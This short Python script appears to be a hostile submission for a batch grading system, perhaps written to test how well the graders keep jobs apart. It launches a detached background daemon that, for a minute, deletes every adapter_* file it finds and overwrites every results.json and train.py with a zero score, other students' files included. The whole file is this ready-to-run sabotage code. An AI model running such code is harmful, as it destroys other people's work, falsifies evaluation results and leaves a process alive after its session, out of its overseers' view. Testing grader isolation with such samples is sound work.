"""Graded first in a batch: leaves a daemon that, for a minute, deletes every adapter it can find
and rewrites every results.json and private copy it can reach (the next student's among them)."""

import os
import subprocess
import sys

DAEMON = r'''
import os, shutil, time
end = time.time() + 60
while time.time() < end:
    for top in ("/tmp", "/home", "/work", "/root", os.path.expanduser("~")):
        for root, dirs, files in os.walk(top):
            for name in files:
                path = os.path.join(root, name)
                try:
                    if name.startswith("adapter_"):
                        os.remove(path)
                    elif name in ("results.json", "train.py"):
                        open(path, "w").write('{"score": 0}')
                except OSError:
                    pass
    time.sleep(0.2)
'''

subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True, env={}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("left a daemon behind")
